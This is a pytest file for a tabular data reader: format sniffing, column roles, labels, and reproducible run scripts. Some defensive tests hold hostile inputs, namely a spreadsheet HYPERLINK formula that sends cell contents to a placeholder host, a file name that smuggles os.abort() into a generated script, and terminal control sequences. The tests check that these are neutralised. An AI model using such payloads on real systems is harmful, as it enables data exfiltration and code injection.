"""Reading one's own table: what is guessed, what can be set otherwise, what becomes of each kind of column."""

from __future__ import annotations

import bz2
import csv
import gzip
import io
import lzma
import os
import subprocess
import sys
from dataclasses import replace

import numpy as np
import pandas as pd
import pytest
from hostile_files import GOOD, npz, parquet
from sklearn.datasets import dump_svmlight_file, load_iris

from dsgcore.data import DataError, Dataset, draw_pairs, hide_labels
from dsgcore.data.reading import Limits, Recipe, Source, preview, read, sniff
from dsgcore.experiments import FileStore, Run, Spec, SpecError, load_split, script
from dsgcore.experiments.settings import SETTINGS


def lines(*given, encoding="utf-8"):
    return ("\n".join(given) + "\n").encode(encoding)


def read_sniffed(content, name="table.csv", labels="classes", **changes):
    return read(content, replace(sniff(content, name, labels=labels), **changes), name=name, labels=labels)


def iris_table():
    X, y = load_iris(return_X_y=True)
    return X, np.array(["setosa", "versicolor", "virginica"])[y]


def iris_csv(delimiter=",", decimal=".", encoding="utf-8", header=True):
    X, y = iris_table()
    rows = [["sepal length", "sepal width", "petal length", "petal width", "species"]] if header else []
    rows += [[*(str(value).replace(".", decimal) for value in x), label] for x, label in zip(X, y, strict=True)]
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter).writerows(rows)
    return text.getvalue().encode(encoding)


# --- the format


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize(
    ("delimiter", "decimal"), [(",", "."), (";", ","), ("\t", "."), ("\t", ","), ("|", "."), (" ", ".")]
)
@pytest.mark.parametrize("header", [True, False])
def test_a_text_is_read_whatever_separates_its_cells(delimiter, decimal, encoding, header):
    content = iris_csv(delimiter, decimal, encoding, header)
    if delimiter == " ":
        content = content.decode(encoding).replace('"', "").replace("l l", "l_l").replace("l w", "l_w").encode(encoding)
    dataset = read_sniffed(content)
    X, _ = iris_table()
    np.testing.assert_array_equal(dataset.X, X.astype(np.float32))
    assert dataset.class_names == ("setosa", "versicolor", "virginica")
    assert np.bincount(dataset.y).tolist() == [50, 50, 50]
    assert len(dataset.sha256) == 64


def test_all_formats_give_the_same_points():
    X, y = iris_table()
    codes = np.unique(y, return_inverse=True)[1]
    frame = pd.DataFrame(X, columns=["a", "b", "c", "d"])
    svmlight = io.BytesIO()
    dump_svmlight_file(X, codes, svmlight, zero_based=False)
    files = {
        "a.csv": iris_csv(),
        "a.parquet": parquet(frame=frame.assign(species=y)),
        "a.libsvm": svmlight.getvalue(),
        "a.npz": npz(X=X, y=y, split=np.zeros(150), about=np.zeros(3), letters=np.array(["a"] * 150)),
    }
    for name, content in files.items():
        for packed in (content, gzip.compress(content), bz2.compress(content), lzma.compress(content)):
            dataset = read_sniffed(packed, name)
            np.testing.assert_array_equal(dataset.X, X.astype(np.float32), err_msg=name)
            np.testing.assert_array_equal(dataset.y, codes, err_msg=name)
            assert dataset.X.dtype == np.float32
            assert dataset.X.flags.c_contiguous


def test_the_format_is_told_from_the_bytes_not_from_the_name():
    assert sniff(parquet(), "data.csv").format == "parquet"
    assert sniff(GOOD, "data.parquet").format == "delimited"
    assert sniff(b"1 1:2\n2 2:1\n", "data.csv").format == "svmlight"


@pytest.mark.parametrize("limit", [1, 50, 6])
def test_sparse_text_keeps_its_columns(limit):
    content = b"# first\n1 qid:3 2:0.5 6:1 # a comment\n\n-1 1:2\n" * limit
    dataset = read_sniffed(content, "a.svm")
    np.testing.assert_array_equal(dataset.X[:2], [[0, 0.5, 0, 0, 0, 1], [2, 0, 0, 0, 0, 0]])
    zero_based = read_sniffed(b"1 0:1 2:3\n2 1:1\n", "a.svm")
    np.testing.assert_array_equal(zero_based.X, [[1, 0, 3], [0, 1, 0]])


def test_what_was_sniffed_can_be_set_otherwise():
    content = lines("1;2,5;a", "2;3,5;b", "3;4,5;a", "4;5,5;b")
    recipe = sniff(content, "a.csv")
    assert (recipe.delimiter, recipe.decimal, recipe.header) == (";", ",", False)
    recipe = Recipe(delimiter=";", decimal=",", header=True, roles=(("a", "label"),))
    assert read(content, recipe, labels="classes").X.shape == (3, 2)


def test_a_wrong_encoding_is_told_and_another_can_be_given():
    content = lines("größe,label", *(f"{i},{'ja' if i % 2 else 'nein'}" for i in range(20)), encoding="cp1252")
    recipe = sniff(content, "a.csv")
    assert recipe.encoding == "cp1252"
    assert read(content, recipe).feature_names == ("größe",)
    with pytest.raises(DataError, match=r"line 1 .* not utf-8"):
        read(content, replace(recipe, encoding="utf-8"))


def test_quotes_hold_delimiters_and_line_ends():
    content = lines('"a","b, c",label', '1,"2",x', '"3","4","y\nz"', "5,6,x", '7,"8",x')
    dataset = read_sniffed(content)
    np.testing.assert_array_equal(dataset.X, [[1, 2], [3, 4], [5, 6], [7, 8]])
    assert dataset.feature_names == ("a", "b, c")
    assert dataset.class_names == ("x", "y z")


# --- names


def test_repeated_and_missing_names_are_told():
    content = lines("a,a,,label", *(f"{i},{i % 3},{i % 5},{'xy'[i % 2]}" for i in range(20)))
    dataset = read_sniffed(content)
    assert dataset.feature_names == ("a", "a (2)", "column 3")
    assert any("same name" in sentence for sentence in dataset.report)
    assert any("no name" in sentence for sentence in dataset.report)


FORMULA = '=HYPERLINK("http://x/?"&A1)'


def test_formulas_are_text_and_cannot_be_exported_as_formulas():
    rows = [["=1+1", "@cmd", "-x", "label"]] + [
        [FORMULA if i % 2 else "+2", i, -i, "=A1" if i % 2 else "-1"] for i in range(20)
    ]
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    content = text.getvalue().encode()
    recipe = sniff(content, "a.csv")
    assert dict(recipe.roles) == {"=1+1": "category", "label": "label"}
    dataset = read(content, recipe)
    names = (*dataset.feature_names, *dataset.class_names)
    assert "'=1+1: 2" in names or "'=1+1: +2" in names
    assert not any(name.startswith(("=", "+", "@")) for name in names)
    assert dataset.class_names == ("-1", "'=A1")  # a number is one
    head = preview(content, "a.csv", recipe).head()
    cells = [*map(str, head.columns), *head.to_numpy().ravel()]
    assert not any(cell.startswith(("=", "@", "-x")) for cell in cells)


def test_control_characters_never_reach_a_page():
    bell = "y\x07"
    content = lines('"a\x1b[2J\u202e\nb",label', *(f"{i},{['x', bell][i % 2]}" for i in range(20)))
    dataset = read_sniffed(content)
    assert all(name.isprintable() for name in (*dataset.feature_names, *dataset.class_names, *dataset.report))


# --- columns


def table(n=60):
    rng = np.random.default_rng(0)
    return pd.DataFrame(
        {
            "id": np.arange(n),
            "size": rng.normal(size=n),
            "is big": rng.integers(0, 2, n).astype(bool),
            "color": np.array(["red", "green", "blue"])[rng.integers(0, 3, n)],
            "when": pd.date_range("2020-01-01", periods=n),
            "note": [f"the {['old', 'new', 'odd'][i % 3]} house number {i} on hill {i % 7}" for i in range(n)],
            "key": [f"k{i}" for i in range(n)],
            "kind": np.array(["a", "b"])[rng.integers(0, 2, n)],
        }
    )


def test_roles_are_guessed():
    recipe = sniff(parquet(frame=table()), "a.parquet")
    assert dict(recipe.roles) == {
        "id": "ignore",
        "color": "category",
        "when": "ignore",
        "note": "text",
        "key": "ignore",
        "kind": "label",
    }


def test_categories_become_columns_of_zeros_and_ones():
    frame = table()
    frame.loc[3, "color"] = None
    dataset = read_sniffed(parquet(frame=frame[["size", "color", "kind"]]))
    assert dataset.feature_names == ("size", "color: blue", "color: green", "color: red")
    expected = pd.get_dummies(frame["color"])[["blue", "green", "red"]].to_numpy()
    np.testing.assert_array_equal(dataset.X[:, 1:], expected)
    assert not dataset.X[3, 1:].any()
    assert any("3 categories" in sentence and "1 rows without one" in sentence for sentence in dataset.report)


def test_too_many_categories_are_refused():
    frame = pd.DataFrame({"x": [f"v{i}" for i in range(120)], "label": ["a", "b"] * 60})
    content = parquet(frame=frame)
    recipe = Recipe(format="parquet", roles=(("label", "label"), ("x", "category")))
    with pytest.raises(DataError, match="column 'x' must have at most 50 categories, got 120"):
        read(content, recipe)
    assert read(content, recipe, limits=Limits(categories=200)).X.shape == (120, 120)


@pytest.mark.parametrize(
    ("missing", "filled"), [("mean", 3.0), ("median", 2.0), ("most frequent", 1.0), ("drop", None)]
)
def test_missing_numbers_are_replaced_or_dropped_and_told(missing, filled):
    values = [1, 1, 2, 4, 7, None]
    content = lines("x,z,label", *(f"{'' if v is None else v},{i},{'ab'[i % 2]}" for i, v in enumerate(values)))
    dataset = read_sniffed(content, missing=missing)
    assert any("1 missing number in 'x'" in sentence for sentence in dataset.report)
    if filled is None:
        assert dataset.X[:, 0].tolist() == values[:-1]
        assert len(dataset.y) == 5
    else:
        assert dataset.X[:, 0].tolist() == [*values[:-1], filled]


def test_other_words_can_mean_missing():
    content = lines("x,label", *(f"{i},{'ab'[i % 2]}" for i in range(20)), "unknown,a")
    recipe = sniff(content, "a.csv")
    with pytest.raises(DataError, match="got 'unknown' in row 21"):
        read(content, recipe)
    assert read(content, replace(recipe, missing_words=("", "unknown"))).X[-1, 0] == np.float32(9.5)


def test_empty_columns_are_left_out_and_told():
    content = lines("x,empty,label", *(f"{i},,{'ab'[i % 2]}" for i in range(9)))
    dataset = read_sniffed(content)
    assert dataset.feature_names == ("x",)
    assert any("holds no value and is left out" in sentence for sentence in dataset.report)


def test_unknown_columns_in_a_recipe_are_refused():
    with pytest.raises(DataError, match="gives 'bogus' the role ignore"):
        read(GOOD, Recipe(roles=(("bogus", "ignore"), ("label", "label"))))


# --- labels


def test_empty_labels_stay_unlabeled_and_are_never_used_for_testing():
    content = lines("x,z,label", *(f"{i},{i * 7 % 11},{'' if i % 3 == 0 else 'ab'[i % 2]}" for i in range(90)))
    dataset = read_sniffed(content, labels="binary")
    assert np.sum(dataset.y == -1) == 30
    assert any("30 rows have no label" in sentence for sentence in dataset.report)
    split = hide_labels(dataset, 10, 0.3, seed=0)
    without = np.flatnonzero(dataset.y == -1)
    assert set(without) <= set(split.train_rows)
    assert not set(without) & set(split.test_rows)
    assert len(split.test_rows) == 18
    assert np.sum(split.y_hidden == -1) == 30
    assert np.all(split.y_hidden[split.labeled] >= 0)
    pairs = draw_pairs(dataset, 5, 0.3, seed=0)
    assert np.all(pairs.y_hidden[pairs.labeled] >= 0)
    assert np.sum(pairs.y_hidden == -1) == 30


def test_a_word_can_mean_not_labeled():
    content = lines("x,label", *(f"{i},{i % 3 - 1}" for i in range(30)))
    dataset = read_sniffed(content, unlabeled="-1")
    assert dataset.class_names == ("0", "1")
    assert np.sum(dataset.y == -1) == 10


def test_labels_are_written_alike_in_all_types():
    for values in (
        [1, 2, 1, 2],
        [1.0, 2.0, 1.0, 2.0],
        [True, False, True, False],
        ["1", "2", "1", "2"],
        [1, 2, 1, None],
    ):
        dataset = read_sniffed(parquet(frame=pd.DataFrame({"x": np.arange(4.0), "label": values})))
        assert dataset.class_names in (("1", "2"), ("False", "True"))


def test_one_class_against_the_rest():
    content = iris_csv()
    recipe = sniff(content, "iris.csv", labels="binary")
    assert recipe.positive == "setosa"  # the first of the most frequent
    dataset = read(content, replace(recipe, positive="versicolor"))
    assert dataset.class_names == ("not versicolor", "versicolor")
    assert dataset.y.sum() == 50
    with pytest.raises(DataError, match="the positive label must be one of"):
        read(content, replace(recipe, positive="rose"))
    with pytest.raises(DataError, match="needs the positive one named"):
        read(content, replace(recipe, positive=None))


@pytest.mark.parametrize(("labels", "bins"), [("binary", 2), ("ordinal", 5), ("classes", 5)])
def test_a_label_of_many_numbers_is_cut_into_bins(labels, bins):
    rng = np.random.default_rng(0)
    content = lines("x,target", *(f"{rng.normal()},{rng.normal():.4f}" for _ in range(100)), "1,")
    recipe = sniff(content, "a.csv", labels=labels)
    assert recipe.bins == bins
    dataset = read(content, recipe, labels=labels)
    assert np.bincount(dataset.y[:-1]).tolist() == [100 // bins] * bins
    assert dataset.y[-1] == -1
    assert any(f"cut into {bins} bins" in sentence for sentence in dataset.report)


def test_ordered_classes_take_the_order_that_is_given():
    content = lines("x,label", *(f"{i},{['low', 'high', 'mid'][i % 3]}" for i in range(30)))
    recipe = sniff(content, "a.csv", labels="ordinal")
    assert read(content, recipe, labels="ordinal").class_names == ("high", "low", "mid")
    order = ("low", "mid", "high")
    assert read(content, replace(recipe, order=order), labels="ordinal").class_names == order
    with pytest.raises(DataError, match="must name each class once"):
        read(content, replace(recipe, order=("low", "high")), labels="ordinal")


def with_pairs(n_pairs=12, n=60):
    rng = np.random.default_rng(1)
    y = rng.integers(0, 2, n)
    pair = np.full(n, "", dtype=object)
    for label in (0, 1):
        rows = np.flatnonzero(y == label)[:n_pairs]
        pair[rows] = [f"p{label}{i // 2}" for i in range(len(rows))]
    return lines("x,z,label,pair_id", *(f"{rng.normal()},{v},{'ab'[v]},{p}" for v, p in zip(y, pair, strict=True)))


def test_pairs_that_the_file_gives_are_used():
    content = with_pairs()
    dataset = read_sniffed(content, labels="pairs")
    assert dataset.feature_names == ("x", "z")
    assert dataset.pairs.max() == 11
    split = draw_pairs(dataset, 8, 0.3, seed=3)
    ids, counts = np.unique(split.y_train[split.y_train >= 0], return_counts=True)
    assert (ids.tolist(), set(counts)) == (list(range(8)), {2})
    for own in ids:
        members = split.train_rows[split.y_train == own]
        assert len(set(dataset.pairs[members])) == 1
    assert np.all(dataset.pairs[split.test_rows] == -1)
    assert not set(split.test_rows) & set(split.train_rows)
    # The pairs that were not drawn are set aside: they are no sample of all points.
    assert len(split.train_rows) + len(split.test_rows) == 60 - 2 * 4
    with pytest.raises(DataError, match="between 1 and 12"):
        draw_pairs(dataset, 13, 0.3, seed=3)
    assert read_sniffed(content, labels="binary").pairs is None


def test_a_pair_id_must_be_on_two_rows():
    content = with_pairs().replace(b"p01", b"p00")
    with pytest.raises(DataError, match=r"pair id must be on exactly two rows, got 'p00' on 4 \(rows"):
        read_sniffed(content, labels="pairs")


# --- what depends on the training rows


def own_spec(content, recipe, setting="auc", name="table.csv", **data):
    files = FileStore()
    section = {
        "name": "file",
        "path": name,
        "sha256": files.add(content),
        "recipe": recipe.to_dict(),
        "n_labeled": 20,
        **data,
    }
    return Spec.from_dict(
        {"setting": setting, "data": section, "solver": {"n_iter": 5, "n_features": 16, "batch_size": 8}}
    ), files


def test_text_and_means_are_learned_from_training_rows_only():
    frame = table()
    frame.loc[::5, "size"] = np.nan
    content = parquet(frame=frame)
    recipe = replace(sniff(content, "a.parquet"), text_dimensions=4)
    spec, files = own_spec(content, recipe, scaling="none")
    split = load_split(spec, files=files)
    names = read(content, recipe).feature_names
    size, text = names.index("size"), [j for j, name in enumerate(names) if name.startswith("note: direction")]
    assert len(text) == 4
    train = frame["size"].to_numpy()[split.train_rows]
    filled = split.X_test[np.isnan(frame["size"].to_numpy()[split.test_rows]), size]
    np.testing.assert_allclose(filled, np.float32(np.nanmean(train)), rtol=1e-6)
    # Other words in the test rows change no training point.
    other = frame.copy()
    other.loc[split.test_rows, "note"] = "completely different words here"
    other.loc[split.test_rows, "size"] = 1e6
    changed, more = own_spec(parquet(frame=other), recipe, scaling="none")
    np.testing.assert_array_equal(load_split(changed, files=more).X_train, split.X_train)


def test_singular_directions_are_those_of_tf_idf():
    from sklearn.feature_extraction.text import TfidfVectorizer

    frame = table()
    recipe = Recipe(
        format="parquet", text_dimensions=5, roles=tuple((n, "ignore") for n in frame if n not in ("note", "kind"))
    )
    recipe = replace(recipe, roles=tuple(sorted([*recipe.roles, ("note", "text"), ("kind", "label")])))
    X = read(parquet(frame=frame), recipe).X
    weights = TfidfVectorizer().fit_transform(frame["note"]).toarray()
    u, s, _ = np.linalg.svd(weights, full_matrices=False)
    expected = np.abs(u[:, :5] * s[:5])
    np.testing.assert_allclose(np.abs(X)[:, :2], expected[:, :2], atol=1e-3)  # the randomised method's accuracy


# --- the spec


@pytest.mark.parametrize("setting", SETTINGS)
def test_a_spec_with_a_recipe_repeats_the_run(setting):
    content = iris_csv()
    recipe = sniff(content, "iris.csv", labels=SETTINGS[setting].labels)
    spec, files = own_spec(content, recipe, setting, "iris.csv", n_labeled=12 if setting != "similar_unlabeled" else 4)
    again = Spec.from_json(spec.to_json())
    assert again == spec
    assert again.sha256 == spec.sha256
    first, second = (Run(s, load_split(s, files=files)) for s in (spec, again))
    first.advance()
    second.advance()
    for name in first.history.names:
        np.testing.assert_array_equal(first.history.column(name), second.history.column(name))


def test_the_script_reads_the_file_beside_it_and_gives_the_same_numbers(tmp_path):
    frame = table()
    frame.loc[::7, "size"] = np.nan
    content = parquet(frame=frame)
    spec, files = own_spec(content, sniff(content, "my table.parquet"), name="my table.parquet")
    run = Run(spec, load_split(spec, files=files))
    run.advance()
    own, elsewhere = tmp_path / "own", tmp_path / "elsewhere"
    own.mkdir()
    elsewhere.mkdir()
    (own / "my table.parquet").write_bytes(content)
    (own / "repeat_run.py").write_text(script(run.spec, run.t), encoding="utf-8")
    command = [sys.executable, str(own / "repeat_run.py")]
    subprocess.run(command, cwd=elsewhere, check=True, env={**os.environ, "PYTHONPATH": os.getcwd()}, timeout=120)
    with (elsewhere / "history.csv").open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file)
    written = np.array([[float(cell or "nan") for cell in row] for row in rows])
    here = np.stack([run.history.column(name) for name in header], axis=1)
    np.testing.assert_allclose(written, here, rtol=1e-12, atol=0)
    (own / "my table.parquet").write_bytes(content + b" ")
    done = subprocess.run(command, cwd=elsewhere, capture_output=True, text=True, check=False, timeout=120)
    assert "is not the one of the spec" in done.stderr


def test_a_name_cannot_get_out_of_the_script():
    spec, _ = own_spec(GOOD, sniff(GOOD, "a.csv"), name='a"""\nimport os; os.abort()\nb"""\\.csv')
    compiled = compile(script(spec, 1), "repeat_run.py", "exec")
    assert "abort" not in compiled.co_names
    recipe = replace(sniff(GOOD, "a.csv"), positive='"""\nabort()\n"""')
    assert "abort" not in compile(script(own_spec(GOOD, recipe)[0], 1), "repeat_run.py", "exec").co_names


def test_another_file_of_that_name_is_refused(tmp_path):
    (tmp_path / "table.csv").write_bytes(GOOD)
    spec, _ = own_spec(GOOD + b"1,2,yes\n", sniff(GOOD, "table.csv"), name=str(tmp_path / "table.csv"))
    with pytest.raises(DataError, match=r"the file 'table\.csv' is not the one of the spec"):
        load_split(spec)


def test_a_session_looks_for_a_file_among_its_own_only(tmp_path):
    path = tmp_path / "table.csv"
    path.write_bytes(GOOD)
    spec, _ = own_spec(GOOD, sniff(GOOD, "table.csv"), name=str(path))
    load_split(spec)
    with pytest.raises(DataError, match=r"this session does not have the file 'table\.csv'"):
        load_split(spec, files=FileStore())
    plain = spec.to_dict()
    plain["data"]["sha256"] = None
    with pytest.raises(DataError, match="this session does not have the file"):
        load_split(Spec.from_dict(plain), files=FileStore())


def test_a_session_keeps_its_last_files():
    files = FileStore()
    digests = [files.add(b"%d" % i) for i in range(5)]
    assert [digest in files for digest in digests] == [False, False, True, True, True]


def test_a_spec_without_a_recipe_reads_any_file_as_it_is_sniffed(tmp_path):
    (tmp_path / "iris.csv").write_bytes(iris_csv())
    data = {"name": "file", "path": str(tmp_path / "iris.csv"), "n_labeled": 12}
    split = load_split(Spec.from_dict({"setting": "multiclass", "data": data}))
    assert split.class_names == ("setosa", "versicolor", "virginica")
    data |= {"target": "sepal width", "recipe": None}
    split = load_split(Spec.from_dict({"setting": "ordinal", "data": data}))
    assert split.X_train.shape[1] == 6  # three lengths, and three species


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"recipe": {"format": "csv"}}, "format must be one of"),
        ({"recipe": {"format": "delimited", "bogus": 1}}, "no field 'bogus'"),
        ({"recipe": {"format": "delimited", "roles": {"a": "king"}}}, "the role of 'a' must be one of"),
        (
            {"recipe": {"format": "delimited", "roles": {"a": "label", "b": "label"}}},
            "only one column can be the label",
        ),
        ({"recipe": {"format": "delimited", "roles": [1]}}, "roles must be an object"),
        ({"recipe": {"format": "delimited", "order": "abc"}}, "order must be a list"),
        ({"recipe": {"format": "delimited", "bins": 1}}, "bins must be a whole number"),
        ({"recipe": {"format": "delimited", "encoding": "rot13"}}, "encoding must be one of"),
        ({"recipe": {"format": "delimited"}, "positive": 3}, "a recipe is given"),
        ({"recipe": 7}, "recipe must be a recipe or null"),
        ({"sha256": 7}, "sha256 must be text"),
        ({"name": "digits", "path": None, "sha256": "abc"}, "sha256 goes with the data's name 'file'"),
    ],
)
def test_a_bad_recipe_gets_one_sentence(change, said):
    with pytest.raises(SpecError, match=said) as caught:
        Spec.from_dict({"setting": "auc", "data": {"name": "file", "path": "a.csv"} | change})
    assert "\n" not in str(caught.value)


def test_recipes_are_plain_data():
    recipe = sniff(iris_csv(), "iris.csv")
    assert Recipe.from_dict(recipe.to_dict()) == recipe
    assert isinstance(hash(recipe), int)


def test_a_recipe_for_another_format_is_refused():
    with pytest.raises(DataError, match="the recipe is for the format parquet, and the file is text"):
        read(GOOD, Recipe(format="parquet"))
    with pytest.raises(DataError, match="the recipe is for the format delimited, and the file is parquet"):
        read(parquet(), Recipe())


def test_a_file_on_the_disk_is_a_source(tmp_path):
    (tmp_path / "a.csv").write_bytes(GOOD)
    source = Source.of_path(tmp_path / "a.csv")
    assert (source.name, source.size) == ("a.csv", len(GOOD))
    with pytest.raises(DataError, match="there is no such file"):
        Source.of_path(tmp_path / "b.csv")
    assert isinstance(read(GOOD, sniff(GOOD, "a.csv")), Dataset)
